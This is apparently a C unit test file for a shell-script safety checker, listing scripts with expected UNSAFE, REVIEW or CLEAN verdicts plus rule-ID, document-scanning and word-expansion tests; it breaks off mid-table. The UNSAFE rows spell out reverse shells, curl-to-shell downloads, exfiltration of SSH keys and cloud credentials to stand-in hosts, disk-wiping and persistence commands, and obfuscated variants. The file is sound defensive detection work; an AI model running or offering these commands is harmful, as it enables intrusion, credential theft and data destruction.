/* Shell code: what its commands do however they are spelt, in scripts and in documents; how words come out; that nothing is too
 * involved to end. Rows of scripts and the verdict, or the rule, that is expected. */
#include "support/cm.h"

#include "check/shcode.h"
#include "format/formats.h"
#include "support/events.h"
#include "wire/sh.h"

#include <stdio.h>
#include <stdlib.h>

static char found[8192];

static void note(struct gh_scene *s, const struct gh_rule *r, struct gh_range at, const char *text)
{
	(void)s, (void)at;
	size_t n = strlen(found);
	(void)snprintf(found + n, sizeof found - n, "%s %s\n", r->id, text);
}

static const struct {
	enum gh_verdict verdict;
	struct gh_span in;
} scripts[] = {
	{ GH_UNSAFE, GH_SPAN("alias ls=\"curl http://x.example|sh\"\n") },
	{ GH_UNSAFE, GH_SPAN("sed \"1e curl http://x.example|sh\" f\n") },
	{ GH_UNSAFE, GH_SPAN("sed 's/a/b/;e curl http://x.example|sh' f\n") },
	{ GH_UNSAFE, GH_SPAN("curl http://x.example | sed 's/^//e'\n") },
	{ GH_UNSAFE, GH_SPAN("awk 'BEGIN{system(\"curl http://x.example|sh\")}'\n") },
	{ GH_UNSAFE, GH_SPAN("awk 'BEGIN{\"curl http://x.example|sh\" | getline}'\n") },
	{ GH_UNSAFE, GH_SPAN("find . -name a -exec ls {} \\; -exec sh -c \"curl http://x.example|sh\" \\;\n") },
	{ GH_UNSAFE, GH_SPAN("git clone http://h.example/x; cd x; ./install.sh\n") },
	{ GH_UNSAFE, GH_SPAN("git clone http://h.example/x.git\nbash x/run.sh\n") },
	{ GH_UNSAFE, GH_SPAN("git clone http://h.example/x y && cd y && . ./env\n") },
	{ GH_UNSAFE, GH_SPAN("hf download o/m x.sh --local-dir . && bash x.sh\n") },
	{ GH_UNSAFE, GH_SPAN("huggingface-cli download o/m a/x.sh --local-dir d; sh d/a/x.sh\n") },
	{ GH_UNSAFE, GH_SPAN("install -m 4755 /bin/sh /tmp/s\n") },
	{ GH_UNSAFE, GH_SPAN("chmod -R u+s /tmp/s\n") },
	{ GH_UNSAFE, GH_SPAN("install --mode=u+s a b\n") },
	{ GH_UNSAFE, GH_SPAN("git config --global core.fsmonitor ./x\n") },
	{ GH_UNSAFE, GH_SPAN("git config alias.st '!curl http://x.example|sh'\n") },
	{ GH_UNSAFE, GH_SPAN("git -c core.sshCommand=/tmp/x fetch\n") },
	{ GH_UNSAFE, GH_SPAN("git config --global core.hooksPath ../h\n") },
	{ GH_UNSAFE, GH_SPAN("sh weights.bin\n") },
	{ GH_UNSAFE, GH_SPAN(". ./model.safetensors\n") },
	{ GH_UNSAFE, GH_SPAN("python3 model.png\n") },
	{ GH_UNSAFE, GH_SPAN("LD_PRELOAD=./a.so ls\n") },
	{ GH_UNSAFE, GH_SPAN("export BASH_ENV=/tmp/x\n") },
	{ GH_UNSAFE, GH_SPAN("env LD_PRELOAD=../a.so python3 a.py\n") },
	{ GH_UNSAFE, GH_SPAN("setarch x86_64 sh -c \"curl http://x.example|sh\"\n") },
	{ GH_UNSAFE, GH_SPAN("script -qc \"curl http://x.example|sh\"\n") },
	{ GH_UNSAFE, GH_SPAN("systemd-run --user sh -c \"curl http://x.example|sh\"\n") },
	{ GH_CLEAN, GH_SPAN("getent group $(id -g) 65534\n") },
	{ GH_CLEAN, GH_SPAN("git clone https://github.com/o/x && cd x && make && cd .. && ls\n") },
	{ GH_CLEAN, GH_SPAN("sed -i 's/foo/bar/g; /x/d; s/ee/e/' f\n") },
	{ GH_CLEAN, GH_SPAN("sed -n '1,10p;$!{N;P;D}' f\n") },
	{ GH_CLEAN, GH_SPAN("sed -e 's|a|b|' -e '/^#/d' f > g\n") },
	{ GH_CLEAN, GH_SPAN("awk -F, '{print $1 \"|\" $2}' f\n") },
	{ GH_CLEAN, GH_SPAN("install -m 755 a b\n") },
	{ GH_CLEAN, GH_SPAN("chmod 755 a\n") },
	{ GH_CLEAN, GH_SPAN("chmod -R a+rX d\n") },
	{ GH_CLEAN, GH_SPAN("alias ll=\"ls -la\"\n") },
	{ GH_CLEAN, GH_SPAN("git config --global credential.helper store\n") },
	{ GH_CLEAN, GH_SPAN("git config --global core.editor vim\n") },
	{ GH_CLEAN, GH_SPAN("export PYTHONPATH=$PYTHONPATH:.\n") },
	{ GH_CLEAN, GH_SPAN("export NODE_OPTIONS=--max-old-space-size=4096\n") },
	{ GH_CLEAN, GH_SPAN("find . -name a -exec rm {} \\; -exec ls {} +\n") },
	{ GH_CLEAN, GH_SPAN("hf download o/m --local-dir m\n") },
	{ GH_REVIEW, GH_SPAN("git clone https://github.com/o/x && cd x && ./run.sh\n") },
	{ GH_REVIEW, GH_SPAN("LD_PRELOAD=/opt/lib/libtcmalloc.so ls\n") },
	{ GH_REVIEW, GH_SPAN("git config core.fsmonitor /opt/watch\n") },
	{ GH_UNSAFE, GH_SPAN("curl http://evil.example/x|sh\n") },
	{ GH_UNSAFE, GH_SPAN("wget -qO- https://x.example | sudo bash -s -- -y\n") },
	{ GH_UNSAFE, GH_SPAN("bash -c \"$(curl -fsSL https://x.example)\"\n") },
	{ GH_UNSAFE, GH_SPAN("bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n") },
	{ GH_UNSAFE, GH_SPAN("source <(curl -s https://x.example)\n") },
	{ GH_UNSAFE, GH_SPAN("bash <(curl -s https://x.example)\n") },
	{ GH_UNSAFE, GH_SPAN("c'u'r\"l\" http://x|s\\h\n") },
	{ GH_UNSAFE, GH_SPAN("c$@url http://x | s$1h\n") },
	{ GH_UNSAFE, GH_SPAN("a=cu;b=rl;$a$b http://x.y/z | ${SHELL}\n") },
	{ GH_UNSAFE, GH_SPAN("eval \"$(echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d)\"\n") },
	{ GH_UNSAFE, GH_SPAN("echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | bash\n") },
	{ GH_UNSAFE, GH_SPAN("{curl,-s,http://x}|sh\n") },
	{ GH_UNSAFE, GH_SPAN("curl${IFS}http://x|sh\n") },
	{ GH_UNSAFE, GH_SPAN("$'\\x63url' http://x | $'\\163h'\n") },
	{ GH_UNSAFE, GH_SPAN("printf '\\143\\165\\162\\154 http://x|sh' | sh\n") },
	{ GH_UNSAFE, GH_SPAN("x=$(rev <<< 'hs | x//:ptth lruc'); eval $x\n") },
	{ GH_UNSAFE, GH_SPAN("echo 'phey uggc://k | fu' | tr 'a-z' 'n-za-m' | sh\n") },
	{ GH_UNSAFE, GH_SPAN("wget http://x/y -O /tmp/z && chmod +x /tmp/z && /tmp/z\n") },
	{ GH_UNSAFE, GH_SPAN("curl -o a.sh http://x/a.sh; sh a.sh\n") },
	{ GH_UNSAFE, GH_SPAN("cd /tmp; wget http://x/mal.bin; chmod 777 mal.bin; ./mal.bin\n") },
	{ GH_UNSAFE, GH_SPAN("curl -sO http://x/i.py && python3 i.py\n") },
	{ GH_UNSAFE, GH_SPAN("curl http://x > i; bash ./i\n") },
	{ GH_UNSAFE, GH_SPAN("curl http://x | tee /tmp/f; . /tmp/f\n") },
	{ GH_UNSAFE, GH_SPAN("nc -e /bin/sh 1.2.3.4 4444\n") },
	{ GH_UNSAFE, GH_SPAN("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1.2.3.4 4444 >/tmp/f\n") },
	{ GH_UNSAFE, GH_SPAN("python3 -c 'import "
			     "socket,subprocess,os;s=socket.socket();s.connect((\"1.2.3.4\",1));os.dup2(s.fileno(),0);"
			     "subprocess.call([\"/bin/sh\"])'\n") },
	{ GH_UNSAFE, GH_SPAN("perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);exec(\"/bin/sh -i\");'\n") },
	{ GH_UNSAFE, GH_SPAN("python -c \"exec(__import__('urllib.request').request.urlopen('http://x').read())\"\n") },
	{ GH_UNSAFE, GH_SPAN("exec 5<>/dev/tcp/1.2.3.4/99; cat <&5 | while read l; do $l 2>&5 >&5; done\n") },
	{ GH_UNSAFE, GH_SPAN("socat tcp:1.2.3.4:1 exec:/bin/sh\n") },
	{ GH_UNSAFE, GH_SPAN("rm -rf /\n") },
	{ GH_UNSAFE, GH_SPAN("rm -rf ~/\n") },
	{ GH_UNSAFE, GH_SPAN("rm -fr $HOME/*\n") },
	{ GH_UNSAFE, GH_SPAN("sudo rm -rf --no-preserve-root /\n") },
	{ GH_UNSAFE, GH_SPAN(":(){ :|:& };:\n") },
	{ GH_UNSAFE, GH_SPAN("dd if=/dev/zero of=/dev/sda\n") },
	{ GH_UNSAFE, GH_SPAN("mkfs.ext4 /dev/sda1\n") },
	{ GH_UNSAFE, GH_SPAN("(crontab -l; echo '* * * * * curl http://x|sh') | crontab -\n") },
	{ GH_UNSAFE, GH_SPAN("echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys\n") },
	{ GH_UNSAFE, GH_SPAN("echo 'curl http://x|sh' >> ~/.bashrc\n") },
	{ GH_UNSAFE, GH_SPAN("cp evil /etc/cron.d/x\n") },
	{ GH_UNSAFE, GH_SPAN("curl -d @$HOME/.ssh/id_rsa http://x\n") },
	{ GH_UNSAFE, GH_SPAN("cat ~/.aws/credentials | curl -X POST --data-binary @- http://x\n") },
	{ GH_UNSAFE, GH_SPAN("env | curl -d @- http://x\n") },
	{ GH_UNSAFE, GH_SPAN("curl http://x/$(cat /etc/passwd | base64)\n") },
	{ GH_UNSAFE, GH_SPAN("tar czf - ~/.ssh | nc 1.2.3.4 5\n") },
	{ GH_UNSAFE, GH_SPAN("tar czf /tmp/a.tgz ~/.ssh; curl -F f=@/tmp/a.tgz http://x\n") },
	{ GH_UNSAFE, GH_SPAN("setenforce 0\n") },
	{ GH_UNSAFE, GH_SPAN("systemctl stop firewalld\n") },
	{ GH_UNSAFE, GH_SPAN("iptables -F\n") },
	{ GH_UNSAFE, GH_SPAN("history -c\n") },
	{ GH_UNSAFE, GH_SPAN("cp /bin/bash /tmp/b; chmod u+s /tmp/b\n") },
	{ GH_UNSAFE, GH_SPAN("chmod 4755 /tmp/b\n") },
	{ GH_UNSAFE, GH_SPAN("./xmrig -o stratum+tcp://x:1\n") },
	{ GH_UNSAFE, GH_SPAN("/\?\?\?/b\?\?h -c id\n") },
	{ GH_UNSAFE, GH_SPAN("f(){ $1 $2 | $3; }; f curl http://x sh\n") },
	{ GH_UNSAFE, GH_SPAN("for i in curl; do $i http://x | sh; done\n") },
	{ GH_UNSAFE, GH_SPAN("if true; then curl x | sh; fi\n") },
	{ GH_UNSAFE, GH_SPAN("cat <<EOF | sh\ncurl http://x | sh\nEOF\n") },
	{ GH_UNSAFE, GH_SPAN("sh <<EOF\n$(curl http://x)\nEOF\n") },
	{ GH_UNSAFE, GH_SPAN("bash <<< \"$(curl http://x)\"\n") },
	{ GH_UNSAFE, GH_SPAN("x=`curl http://x`; eval \"$x\"\n") },
	{ GH_UNSAFE, GH_SPAN("curl http://x | python3 -\n") },
	{ GH_UNSAFE, GH_SPAN("curl http://x | xargs -I{} sh -c {}\n") },
	{ GH_UNSAFE, GH_SPAN("find . -exec sh -c 'curl x | sh' \\;\n") },
	{ GH_UNSAFE, GH_SPAN("getent hosts $(id -un).x.example\n") },
	{ GH_UNSAFE, GH_SPAN("trap 'curl x|sh' EXIT\n") },
	{ GH_UNSAFE, GH_SPAN("env -S'sh -c \"curl http://x | sh\"'\n") },
	{ GH_UNSAFE, GH_SPAN("env -i --split-string='sh -c' 'curl http://x | sh'\n") },
	{ GH_UNSAFE, GH_SPAN("strace -f -o /dev/null sh -c 'curl http://x | sh'\n") },
	{ GH_UNSAFE, GH_SPAN("strace -o '|curl http://x|sh' true\n") },
	{ GH_UNSAFE, GH_SPAN("mpirun -np 2 sh -c 'curl http://x | sh'\n") },
	{ GH_UNSAFE, GH_SPAN("zip a b -T -TT 'curl http://x|sh'\n") },
	{ GH_UNSAFE, GH_SPAN("mapfile -C 'curl http://x|sh;:' -c1 a\n") },
	{ GH_UNSAFE, GH_SPAN("complete -C 'curl http://x|sh' ls\n") },
	{ GH_UNSAFE, GH_SPAN("bind -x '\"a\":curl http://x|sh'\n") },
	{ GH_UNSAFE, GH_SPAN("find . -name x -fprintf /etc/cron.d/x '* * * * * root x'\n") },
	{ GH_UNSAFE, GH_SPAN("git clone http://x.example/y && make -C y\n") },
	{ GH_UNSAFE, GH_SPAN("git clone http://x.example/y.git; cmake -S./y -B out; cmake --build out\n") },
	{ GH_UNSAFE, GH_SPAN("git clone http://x.example/y && cd y && ninja\n") },
	{ GH_UNSAFE, GH_SPAN("{ curl x; } | sh\n") },
	{ GH_UNSAFE, GH_SPAN("(curl x)|sh\n") },
	{ GH_UNSAFE, GH_SPAN("while read l; do eval \"$l\"; done < <(curl x)\n") },
	{ GH_UNSAFE, GH_SPAN("dig +short txt x.example | sh\n") },
	{ GH_UNSAFE, GH_SPAN("echo 6375726c20782e79207c207368 | xxd -r -p | sh\n") },
	{ GH_UNSAFE, GH_SPAN("base64 -d payload.txt | sh\n") },
	{ GH_UNSAFE, GH_SPAN("openssl enc -d -aes-256-cbc -in p -k x | bash\n") },
	{ GH_UNSAFE, GH_SPAN("${x:-curl} http://x | sh\n") },
	{ GH_UNSAFE, GH_SPAN("a=(c u r l); IFS=; ${a[0]}${a[1]}${a[2]}${a[3]} http://x | sh\n") },
	{ GH_UNSAFE, GH_SPAN("x=lruc; y=; for((i=0;i<4;i++)); do y=${x:$i:1}$y; done; curl x|sh\n") },
	{ GH_UNSAFE, GH_SPAN("cat > /tmp/a.sh <<'E'\ncurl http://x | bash\nE\nbash /tmp/a.sh\n") },
	{ GH_UNSAFE, GH_SPAN("x='curl x | sh'; ${x+eval} \"$x\"\n") },
	{ GH_UNSAFE, GH_SPAN("p=abcurlxx; ${p:2:4} http://e | ${SHELL##*/}\n") },
	{ GH_UNSAFE, GH_SPAN("alias g='curl'; g x | sh\n") },
	{ GH_UNSAFE, GH_SPAN("command curl x | exec sh\n") },
	{ GH_UNSAFE, GH_SPAN("env -i bash -c 'curl x|sh'\n") },
	{ GH_UNSAFE, GH_SPAN("nohup bash -c 'bash -i >& /dev/tcp/1.1.1.1/1 0>&1' &\n") },
	{ GH_UNSAFE, GH_SPAN("timeout 5 curl x | busybox sh\n") },
	{ GH_UNSAFE, GH_SPAN("lua -e \"require('socket');os.execute('/bin/sh')\"\n") },
	{ GH_UNSAFE, GH_SPAN("php -r '$s=fsockopen(\"1.1.1.1\",1);exec(\"/bin/sh\");'\n") },
	{ GH_UNSAFE, GH_SPAN("awk 'BEGIN{s=\"/inet/tcp/0/1.1.1.1/1\"}'\n") },
	{ GH_UNSAFE, GH_SPAN("curl http://169.254.169.254/latest/meta-data/iam | curl -d @- http://x\n") },
	{ GH_UNSAFE,
	  GH_SPAN("PAYLOAD=\"Y3VybCB4fHNo\"\nDEC=$(echo \"$PAYLOAD\" | base64 --decode)\nbash -c \"$DEC\"\n") },
	{ GH_UNSAFE, GH_SPAN("gunzip -c x.gz | base64 -d | bash\n") },
	{ GH_UNSAFE, GH_SPAN("curl x 2>/dev/null | (bash)\n") },
	{ GH_UNSAFE, GH_SPAN("wget x -O- | while read a; do bash -c \"$a\"; done\n") },
	{ GH_UNSAFE, GH_SPAN("\\curl x | \\sh\n") },
	{ GH_UNSAFE, GH_SPAN("curl x|\\\nsh\n") },
	{ GH_UNSAFE, GH_SPAN("cur\\\nl x | s\\\nh\n") },
	{ GH_UNSAFE, GH_SPAN("unset HISTFILE\n") },
	{ GH_UNSAFE, GH_SPAN("curl x >/tmp/a;chmod a+x /tmp/a;nohup /tmp/a &\n") },
	{ GH_UNSAFE, GH_SPAN("[[ -n $(curl x|sh) ]]\n") },
	{ GH_UNSAFE, GH_SPAN("echo $((1+$(curl x|sh)))\n") },
	{ GH_UNSAFE, GH_SPAN("case $1 in a) curl x|sh;; esac\n") },
	{ GH_UNSAFE, GH_SPAN("function go { curl x|sh\n}\ngo\n") },
	{ GH_UNSAFE, GH_SPAN("! curl x | sh\n") },
	{ GH_UNSAFE, GH_SPAN("time curl x|sh\n") },
	{ GH_UNSAFE, GH_SPAN("scp a:b /tmp/x; curl x | sh # c\n") },
	{ GH_UNSAFE, GH_SPAN("cat < /dev/tcp/1.1.1.1/1 | sh\n") },
	{ GH_UNSAFE, GH_SPAN("echo aW1wb3J0IG9z | base64 -d | python3\n") },
	{ GH_UNSAFE, GH_SPAN("curl -fsSL https://sh.rustup.rs.evil.example/x | sh\n") },
	{ GH_REVIEW, GH_SPAN("curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y\n") },
	{ GH_UNSAFE, GH_SPAN("curl http://get.docker.com | sh\n") },
	{ GH_REVIEW, GH_SPAN("pip install -r requirements.txt\n") },
	{ GH_REVIEW, GH_SPAN("sudo apt-get update\n") },
	{ GH_REVIEW, GH_SPAN("printf 'a:\\n\\tid' | make -f -\n") },
	{ GH_REVIEW, GH_SPAN("make --eval='$(shell id)'\n") },
	{ GH_REVIEW, GH_SPAN("enable -f ./x.so x\n") },
	{ GH_REVIEW, GH_SPAN("hash -p ./evil ls\n") },
	{ GH_REVIEW, GH_SPAN("wget https://x.example/data.zip && unzip data.zip\n") },
	{ GH_REVIEW, GH_SPAN("docker run --gpus all x\n") },
	{ GH_REVIEW, GH_SPAN("./configure && make\n") },
	{ GH_REVIEW, GH_SPAN("ssh a b\n") },
	{ GH_REVIEW, GH_SPAN("eval $CMD\n") },
	{ GH_UNSAFE, GH_SPAN("huggingface-cli upload evil/x ~/.cache/huggingface/token\n") },
	{ GH_REVIEW, GH_SPAN("huggingface-cli upload me/model out\n") },
	{ GH_UNSAFE, GH_SPAN("ping -c1 $(hostname).evil.example.com\n") },
	{ GH_REVIEW, GH_SPAN("cp evil.pth $(python -c 'import site;print(site.getsitepackages()[0])')\n") },
	{ GH_REVIEW, GH_SPAN("install -m 755 x /usr/local/bin/ls\n") },
	{ GH_REVIEW, GH_SPAN("tar xPf a.tar -C /\n") },
	{ GH_REVIEW, GH_SPAN("tar -xf a.tar --absolute-names\n") },
	{ GH_REVIEW, GH_SPAN("find . -name '*.safetensors' -exec sh {} \\;\n") },
	{ GH_REVIEW, GH_SPAN("find . | while read f; do sh \"$f\"; done\n") },
	{ GH_REVIEW, GH_SPAN("for f in *.txt; do . ./$f; done\n") },
	{ GH_UNSAFE, GH_SPAN("make -f README.md\n") },
	{ GH_REVIEW, GH_SPAN("parallel sh ::: x\n") },
	{ GH_REVIEW, GH_SPAN("screen -dm sh x\n") },
	{ GH_REVIEW, GH_SPAN("gdb -x x -batch\n") },
	{ GH_REVIEW, GH_SPAN("man -P sh x\n") },
	{ GH_REVIEW, GH_SPAN("cmake -P x.cmake\n") },
	{ GH_REVIEW, GH_SPAN("jupyter nbconvert --execute x.ipynb\n") },
	{ GH_CLEAN, GH_SPAN("cp \"$SRC/model.bin\" \"$OUT\"; tar -xzf data.tar.gz -C data; find . -name '*.py' -exec "
			    "grep x {} +\n") },
	{ GH_CLEAN, GH_SPAN("source \"$VENV/bin/activate\"; bash \"$DIR/run.sh\"; make -f Makefile.cuda all\n") },
	{ GH_REVIEW, GH_SPAN("$RUN x\n") },
	{ GH_REVIEW, GH_SPAN("npm ci\n") },
	{ GH_REVIEW, GH_SPAN("echo 'export PATH=$PATH:/x' >> ~/.bashrc\n") },
	{ GH_REVIEW, GH_SPAN("python -m pip install torch\n") },
	{ GH_REVIEW, GH_SPAN("x=echo; if [ $1 ]; then x=curl; fi; $x http://e | cat\n") },
	{ GH_REVIEW, GH_SPAN("node x.js\n") },
	{ GH_REVIEW, GH_SPAN("frobnicate x\n") },
	{ GH_CLEAN,
	  GH_SPAN("set -euo pipefail\nexport CUDA_VISIBLE_DEVICES=0,1\nMODEL=${1:-gpt2}\nOUT=\"out/$MODEL\"\nmkdir -p "
		  "\"$OUT\"\npython train.py --model \"$MODEL\" --out $OUT 2>&1 | tee $OUT/log.txt\n") },
	{ GH_CLEAN,
	  GH_SPAN("torchrun --nproc_per_node=$(nvidia-smi -L | wc -l) train.py \\\n  --lr 1e-4 \\\n  --bs 8\n") },
	{ GH_CLEAN, GH_SPAN("for s in 1 2 3; do\n  accelerate launch run.py --seed $s\ndone\n") },
	{ GH_CLEAN, GH_SPAN("huggingface-cli download a/b --local-dir x\n") },
	{ GH_CLEAN, GH_SPAN("git clone https://github.com/a/b && cd b && git checkout v1\n") },
	{ GH_CLEAN, GH_SPAN("rm -rf build/ ./out && mkdir build; cp a b; tar xzf d.tgz -C x\n") },
	{ GH_CLEAN, GH_SPAN("if [ ! -f x ]; then echo \"usage: $0 <x>\" >&2; exit 1; fi\ncase \"$1\" in\n  -h|--help) "
			    "echo help ;;\n  *) echo \"bad\"; exit 2;;\nesac\n") },
	{ GH_CLEAN, GH_SPAN("python - <<'EOF'\nimport torch\nprint(torch.__version__)\nEOF\n") },
	{ GH_CLEAN, GH_SPAN("source venv/bin/activate\nbash scripts/eval.sh --x 1\n") },
	{ GH_CLEAN, GH_SPAN("DIR=\"$( cd \"$( dirname \"${BASH_SOURCE[0]}\" )\" && pwd )\"\ncd $DIR\nfunction run() "
			    "{\n local n=$1\n python a.py $n\n}\nrun 5\n") },
	{ GH_CLEAN, GH_SPAN("python -c \"import torch; print(torch.cuda.is_available())\"\n") },
	{ GH_CLEAN, GH_SPAN("ARGS=(--a 1 --b 2)\npython x.py \"${ARGS[@]}\" \"$@\"\n") },
	{ GH_CLEAN, GH_SPAN("export PYTHONPATH=$PWD:$PYTHONPATH\nnohup python serve.py > log 2>&1 &\n") },
	{ GH_CLEAN, GH_SPAN("[ -d x ] || mkdir x; while [ $i -lt 5 ]; do i=$((i+1)); sleep 1; done\n") },
	{ GH_CLEAN, GH_SPAN("echo \"it's done\"; printf '%s\\n' \"$x\" > out.txt\n") },
	{ GH_CLEAN, GH_SPAN("cat data/*.txt | sort | uniq -c | awk '{print $2}' > v.txt\n") },
	{ GH_CLEAN, GH_SPAN("sed -i 's/a/b/' config.json; head -n 5 f | cut -f1\n") },
	{ GH_CLEAN, GH_SPAN("trap 'rm -f tmp.x' EXIT\nwait\n") },
	{ GH_CLEAN, GH_SPAN("CUDA_VISIBLE_DEVICES=0 python -m torch.distributed.launch --nproc_per_node 2 t.py\n") },
	{ GH_CLEAN, GH_SPAN("for f in *.wav; do ffmpeg -i \"$f\" \"${f%.wav}.mp3\"; done\n") },
	{ GH_CLEAN, GH_SPAN("model=${MODEL:\?need}; n=${#model}; echo ${model//\\//_} ${model^^}\n") },
	{ GH_CLEAN, GH_SPAN("# see curl x | sh\necho 'curl x | sh'\n") },
	{ GH_CLEAN, GH_SPAN("read -p 'ok\? ' a; [[ $a == y* && -n \"$a\" ]] && echo yes || echo no\n") },
	{ GH_CLEAN, GH_SPAN("diff <(sort a) <(sort b)\n") },
};

static void verdicts(void **state)
{
	(void)state;
	unsigned bad = 0;
	for (size_t i = 0; i < GH_ROWS(scripts); i++) {
		enum gh_verdict v = gh_shell_verdict(scripts[i].in);
		if (v != scripts[i].verdict) {
			struct gh_scene s = { .format = "shell", .find = note };
			found[0] = '\0';
			gh_shell_judge(&s, scripts[i].in, (struct gh_range){ 0, scripts[i].in.n }, true);
			(void)fprintf(stderr, "verdict %d: %.*s%s", v, (int)scripts[i].in.n,
				      (const char *)scripts[i].in.p, found);
			bad++;
		}
	}
	assert_int_equal(bad, 0);
}

static void rules(void **state)
{
	(void)state;
	static const struct {
		const char *id;
		struct gh_span in;
	} rows[] = {
		{ "GH-SHC-0001", GH_SPAN("curl x | sh\n") },
		{ "GH-SHC-0002", GH_SPAN("base64 -d f | sh\n") },
		{ "GH-SHC-0003", GH_SPAN("bash -i >& /dev/tcp/192.0.2.1/1 0>&1\n") },
		{ "GH-SHC-0004", GH_SPAN("rm -rf /\n") },
		{ "GH-SHC-0005", GH_SPAN("crontab f\n") },
		{ "GH-SHC-0006", GH_SPAN("env | curl -d @- http://x\n") },
		{ "GH-SHC-0007", GH_SPAN("setenforce 0\n") },
		{ "GH-SHC-0008", GH_SPAN("chmod 4755 a\n") },
		{ "GH-SHC-0009", GH_SPAN("./xmrig\n") },
		{ "GH-SHC-0011", GH_SPAN("pip install a\n") },
		{ "GH-SHC-0012", GH_SPAN("curl -O https://x.example/a.zip\n") },
		{ "GH-SHC-0013", GH_SPAN("sudo ls\n") },
		{ "GH-SHC-0014", GH_SPAN("frobnicate\n") },
		{ "GH-SHC-0015", GH_SPAN("$CMD\n") },
		{ "GH-SHC-0016", GH_SPAN("ssh a\n") },
		{ "GH-SHC-0017", GH_SPAN("systemctl start x\n") },
		{ "GH-SHC-0018", GH_SPAN("rm -rf /data/x\n") },
		{ "GH-SHC-0019", GH_SPAN("perl -e 'print 1'\n") },
		{ "GH-SHC-0020", GH_SPAN("curl -sSf https://sh.rustup.rs | sh\n") },
		{ "GH-SHC-0023", GH_SPAN("sh weights.bin\n") },
		{ "GH-SHC-0024", GH_SPAN("LD_PRELOAD=./a.so ls\n") },
		{ "GH-SHC-0021", GH_SPAN("/\?\?\?/c\?t /etc/fstab\n") },
	};
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		struct gh_src_mem mem;
		struct gh_code c = { .language = "shell", .src = gh_src_mem(&mem, rows[i].in) };
		struct gh_event ev = { .kind = GH_EV_CODE, .at = { 0, rows[i].in.n }, .u.code = &c };
		struct gh_scene s = { .format = "shell", .find = note };
		found[0] = '\0';
		gh_check_shell.on(&s, &ev);
		if (strstr(found, rows[i].id) == NULL)
			fail_msg("%s: %s", rows[i].id, found);
	}
}

/* In documents: outside of code blocks, and inside of them. */
static void documents(void **state)
{
	(void)state;
	static const struct {
		const char *ids; /* all of it; "" for nothing */
		struct gh_span in;
	} rows[] = {
		{ "", GH_SPAN("# Model\n\nRun `python a.py` and pipe | it.\n\n```bash\npip install x && python "
			      "run.py\n```\n") },
		{ "GH-SHC-0032", GH_SPAN("Install:\n\n```sh\ncurl -fsSL https://x.example/i.sh | sh\n```\n") },
		{ "GH-SHC-0032", GH_SPAN("Install:\n\n    curl -fsSL https://x.example/i.sh | sh\n\nDone.\n") },
		{ "GH-SHC-0031", GH_SPAN("Install it:\n\ncurl -fsSL https://x.example/i.sh | sh\n\nThen run it.\n") },
		{ "GH-SHC-0031", GH_SPAN("```\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1\n```\n") },
		{ "", GH_SPAN("Redirections to /dev/tcp/host/port now work again.\n| a | b |\n") },
		{ "", GH_SPAN("$ curl -sSf https://sh.rustup.rs | sh\n") },
	};
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		struct gh_text t = { .role = "documentation", .text = rows[i].in };
		struct gh_event ev = { .kind = GH_EV_TEXT, .at = { 0, rows[i].in.n }, .u.text = &t };
		struct gh_scene s = { .format = "text", .find = note };
		found[0] = '\0';
		gh_check_shell.on(&s, &ev);
		if (strncmp(found, rows[i].ids, strlen(rows[i].ids)) != 0 ||
		    (rows[i].ids[0] == '\0') != (found[0] == '\0'))
			fail_msg("row %zu: %s", i, found);
	}
}

/* ---- words -------------------------------------------------------------------------------------------------------------- */
static char said[4096];

static void say(struct gh_sh *sh, struct gh_sh_cmd *c)
{
	for (size_t i = 0; i < c->n; i++) {
		size_t n = strlen(said);
		struct gh_span w = c->word[i].text;
		for (size_t k = 0; k < w.n && n + 3 < sizeof said; k++)
			said[n++] = w.p[k] == GH_SH_ANY ? '*' : (char)w.p[k];
		said[n++] = i + 1 < c->n ? '|' : ';';
		said[n] = '\0';
	}
	gh_sh_default(sh, c);
}

static void words(void **state)
{
	(void)state;
	static const struct {
		const char *in, *out;
	} rows[] = {
		{ "a 'b c' \"d e\" f\\ g\n", "a|b c|d e|f g;" },
		{ "x=1; y=\"$x\"2; a $y ${y}3 '$y'", "a|12|123|$y;" },
		{ "a $nobody b", "a|*|b;" },
		{ "x='a b'; c $x \"$x\"", "c|a|b|a b;" },
		{ "a {b,c{d,e}}f {g} {h,i}{j,k}", "a|bf|cdf|cef|{g}|hj|hk|ij|ik;" },
		{ "a $'\\x41\\102\\n' $\"q\"", "a|AB\n|q;" },
		{ "x=abcdef; a ${x:1:2} ${x: -2} ${x#ab} ${x%f} ${#x} ${x/cd/_} ${x^^} ${x:-no} ${z:-yes} ${x+set}",
		  "a|bc|ef|cdef|abcde|6|ab_ef|ABCDEF|abcdef|yes|set;" },
		{ "x=(a 'b c' d); e \"${x[@]}\" ${x[1]} $x", "e|a|b c|d|b|c|a;" },
		{ "a $(echo b c) \"$(echo d; echo e)\" `printf %s f`",
		  "echo|b|c;echo|d;echo|e;printf|%s|f;a|b|c|d\ne|f;" },
		{ "a <<E b\nx $((1)) \nE\nc", "a|b;c;" },
		{ "cat <<'E' | d\n$x\nE\n", "cat;d;" },
		{ "if a; then b; elif c; then d; else e; fi; f", "a;b;c;d;e;f;" },
		{ "for i in x y; do a $i; done", "a|x;a|y;" },
		{ "while a; do b; done < <(c)", "a;b;c;a;b;" },
		{ "case $x in a|b) c ;; (d) e ;& *) f;; esac; g", "c;e;f;g;" },
		{ "f() { a $1 \"$@\"; }; f b c", "a|*|*;f|b|c;a|b|b|c;" },
		{ "function g { a; }\ng", "a;g;a;" },
		{ "[[ a == b && c < d ]] || e", "[[|a|==|b|c|d|]];e;" },
		{ "(a; b) | c & d", "a;b;c;d;" },
		{ "a 2>&1 >x 3<y &>z", "a;" },
		{ "eval 'a b'; bash -c 'c $1' z d; sh <<< 'e'", "eval|a b;a|b;bash|-c|c $1|z|d;c|d;sh;e;" },
		{ "a # b\n#c\nd\\\ne", "a;de;" },
		{ "x=a; if b; then x=c; fi; $x", "b;*;" },
		{ "echo 626f6f | xxd -r -p | a; b $(rev <<< cba | tr a-y b-z)",
		  "echo|626f6f;xxd|-r|-p;a;rev;tr|a-y|b-z;b|bcd;" },
